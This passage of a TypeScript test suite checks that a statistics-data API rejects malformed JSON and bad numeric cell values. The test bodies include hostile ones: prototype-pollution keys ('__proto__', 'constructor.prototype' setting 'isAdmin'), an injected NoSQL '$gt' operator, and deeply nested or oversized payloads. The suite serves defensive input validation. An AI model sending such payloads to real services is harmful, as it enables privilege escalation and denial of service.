    valid: () => ({ cells: [{ cell: 'prosecuted|sex=T', value: { kind: 'number', value: 1 }, baseRevision: 0 }] }),
    textField: 'reason',
  },
  {
    name: 'enter an estimate',
    role: 'analyst',
    method: 'PUT',
    url: () => '/api/v1/estimates',
    valid: () => ({ indicator: 'homicide_victims', area: 'THA', year: 2001, breakdown: '', value: 1, method: 'm' }),
    textField: 'method',
  },
  {
    name: 'create a release',
    role: 'publisher',
    method: 'POST',
    url: () => '/api/v1/releases',
    valid: () => ({ title: { en: 't' }, dataflows: ['HOMICIDE_ESTIMATES'], tiers: ['public'], embargoAt: '2030-01-01T00:00:00.000Z' }),
    textField: 'note',
  },
  {
    name: 'save a header mapping',
    role: 'provider',
    method: 'PUT',
    url: () => '/api/v1/countries/THA/records/ids/mappings',
    valid: () => ({ name: 'm', columns: { Fecha: 'seizure_date' } }),
    textField: 'name',
  },
  {
    name: 'create a user',
    role: 'admin',
    method: 'POST',
    url: () => '/api/v1/users',
    valid: () => ({ email: 'new@example.org', displayName: 'New', roles: [] }),
    textField: 'displayName',
  },
  {
    name: 'sign in',
    role: 'anonymous',
    method: 'POST',
    url: () => '/api/v1/auth/login',
    valid: () => ({ email: 'nobody@example.org', password: 'x' }),
    textField: 'password',
  },
  {
    name: 'submission transition',
    role: 'focal',
    method: 'POST',
    url: (w) => `/api/v1/submissions/${w.submission}/transitions`,
    valid: () => ({ action: 'submit' }),
    textField: 'action',
  },
];

const nest = (depth: number, open: string, close: string, inner: string) => open.repeat(depth) + inner + close.repeat(depth);

interface JsonVariant {
  name: string;
  body: (valid: Record<string, unknown>, field: string) => string | Buffer;
  contentType?: string;
  expect: readonly number[];
}

export const JSON_VARIANTS: JsonVariant[] = [
  { name: 'a body over the 1 MB limit', body: (v, f) => JSON.stringify({ ...v, [f]: 'x'.repeat(1024 * 1024 + 10) }), expect: [413] },
  { name: 'a 5 MB body', body: (v, f) => JSON.stringify({ ...v, [f]: 'x'.repeat(5 * MB) }), expect: [413] },
  { name: '1.1 MB of whitespace around a valid body', body: (v) => ' '.repeat(1100 * 1024) + JSON.stringify(v), expect: [413] },
  { name: '10,000 nested objects', body: () => nest(10_000, '{"a":', '}', '1'), expect: [400] },
  {
    name: '10,000 nested objects under a known field',
    body: (v, f) => JSON.stringify({ ...v, [f]: 0 }).replace('0}', nest(10_000, '{"a":', '}', '1') + '}'),
    expect: [400],
  },
  { name: '100,000 nested arrays', body: () => nest(100_000, '[', ']', ''), expect: [400] },
  { name: 'an unknown top-level field', body: (v) => JSON.stringify({ ...v, isAdmin: true }), expect: [400] },
  { name: 'a __proto__ key', body: (v) => JSON.stringify(v).replace(/^\{/, '{"__proto__":{"isAdmin":true},'), expect: [400] },
  {
    name: 'a constructor.prototype key',
    body: (v) => JSON.stringify(v).replace(/^\{/, '{"constructor":{"prototype":{"isAdmin":true}},'),
    expect: [400],
  },
  {
    name: 'a duplicate key whose second value is invalid',
    body: (v) => {
      const [k, val] = Object.entries(v)[0]!;
      return JSON.stringify(v)
        .replace(/^\{/, `{${JSON.stringify(k)}:${JSON.stringify(val)},`)
        .replace(/\}$/, `,${JSON.stringify(k)}:{"$gt":""}}`);
    },
    expect: [400],
  },
  { name: 'a NUL character in a text field', body: (v, f) => JSON.stringify({ ...v, [f]: 'a\u0000b' }), expect: [400] },
  { name: 'a NUL character in a key', body: (v) => JSON.stringify({ ...v, 'a\u0000': 1 }), expect: [400] },
  { name: 'truncated JSON', body: (v) => JSON.stringify(v).slice(0, -3), expect: [400] },
  { name: 'a trailing comma', body: (v) => JSON.stringify(v).replace(/\}$/, ',}'), expect: [400] },
  { name: 'single quotes', body: (v) => JSON.stringify(v).replace(/"/g, "'"), expect: [400] },
  { name: 'a comment', body: (v) => '// hi\n' + JSON.stringify(v), expect: [400] },
  { name: 'two documents', body: (v) => JSON.stringify(v) + JSON.stringify(v), expect: [400] },
  { name: 'an empty body', body: () => '', expect: [400] },
  { name: 'null', body: () => 'null', expect: [400] },
  { name: 'an array', body: (v) => JSON.stringify([v]), expect: [400] },
  { name: 'a string', body: () => '"x"', expect: [400] },
  { name: 'UTF-16 encoded JSON', body: (v) => utf16le(JSON.stringify(v)), expect: [400] },
  { name: 'text/plain', body: (v) => JSON.stringify(v), contentType: 'text/plain', expect: [415] },
  { name: 'form-urlencoded', body: () => 'a=1&b=2', contentType: 'application/x-www-form-urlencoded', expect: [415] },
  { name: 'multipart', body: () => '--x\r\n\r\n--x--', contentType: 'multipart/form-data; boundary=x', expect: [415] },
  { name: 'XML', body: () => '<a/>', contentType: 'application/xml', expect: [415] },
  { name: 'text/csv', body: () => 'a,b\n1,2', contentType: 'text/csv', expect: [415] },
  { name: 'no content type', body: (v) => JSON.stringify(v), contentType: '', expect: [400, 415] },
  { name: 'application/jsonx', body: (v) => JSON.stringify(v), contentType: 'application/jsonx', expect: [415] },
];

export function jsonCases(): HttpCase[] {
  return JSON_ENDPOINTS.flatMap((e) =>
    JSON_VARIANTS.map((v) => ({
      area: v.contentType !== undefined ? 'wrong content types' : 'JSON bodies',
      name: `${e.name}: ${v.name}`,
      role: e.role,
      method: e.method,
      url: e.url,
      payload: async (w: World) => v.body(e.valid(w), e.textField),
      headers: (v.contentType === undefined
        ? { 'content-type': 'application/json' }
        : v.contentType
          ? { 'content-type': v.contentType }
          : {}) as Record<string, string>,
      expect: v.expect,
    })),
  );
}

// --- numbers as cell values ----------------------------------------------------------

/** A cell's value as raw JSON text (not what JSON.stringify could write). */
export const CELL_VALUES: Array<{ raw: string; expect: readonly number[] }> = [
  { raw: '1e309', expect: [400] },
  { raw: '-1e309', expect: [400] },
  { raw: '-0', expect: [200] },
  { raw: 'NaN', expect: [400] },
  { raw: 'Infinity', expect: [400] },
  { raw: '-Infinity', expect: [400] },
  { raw: '1,5', expect: [400] },
  { raw: '"1,5"', expect: [400] },
  { raw: '"1.000,5"', expect: [400] },
  { raw: '1.000,5', expect: [400] },
  { raw: '0x10', expect: [400] },
  { raw: '"0x10"', expect: [400] },
  { raw: '010', expect: [400] },
  { raw: '+1', expect: [400] },
  { raw: '.5', expect: [400] },
  { raw: '1.', expect: [400] },
  { raw: '123456789012345678901234567890', expect: [200, 400] },
  { raw: '9007199254740993', expect: [200, 400] },
  { raw: '1.7976931348623157e308', expect: [200, 400] },
  { raw: '1e-400', expect: [200] },
  { raw: '4.9e-324', expect: [200, 400] },
  { raw: '"NaN"', expect: [400] },
  { raw: 'null', expect: [400] },
  { raw: 'true', expect: [400] },
  { raw: '[]', expect: [400] },
  { raw: '{}', expect: [400] },
  { raw: '-1', expect: [200, 400] },
];

export function valueCases(): HttpCase[] {
  return CELL_VALUES.flatMap(({ raw, expect }) =>
    (['number', 'suppressed'] as const).map((kind) => ({
      area: 'numbers: cell values',
      name: `${kind} cell value ${raw}`,
      role: 'focal' as const,
      method: 'PUT' as const,
      url: (w: World) => `/api/v1/submissions/${w.submission}/values`,
      payload: async (w: World) => {
        const current = (await w.agents.focal.get(`/api/v1/submissions/${w.submission}/values`)).json() as {
          cells: Array<{ cell: string; revision: number }>;
        };
        const rev = current.cells.find((c) => c.cell === 'prosecuted|sex=T')?.revision ?? 0;
        const value = kind === 'number' ? `{"kind":"number","value":${raw}}` : `{"kind":"suppressed","below":${raw}}`;
        return `{"cells":[{"cell":"prosecuted|sex=T","value":${value},"baseRevision":${rev}}]}`;
      },
      headers: { 'content-type': 'application/json' },
      // A suppressed cell records a threshold: it must be a positive number, at most.
      expect: kind === 'suppressed' && expect.includes(200) ? [200, 400] : expect,
    })),
  );
}
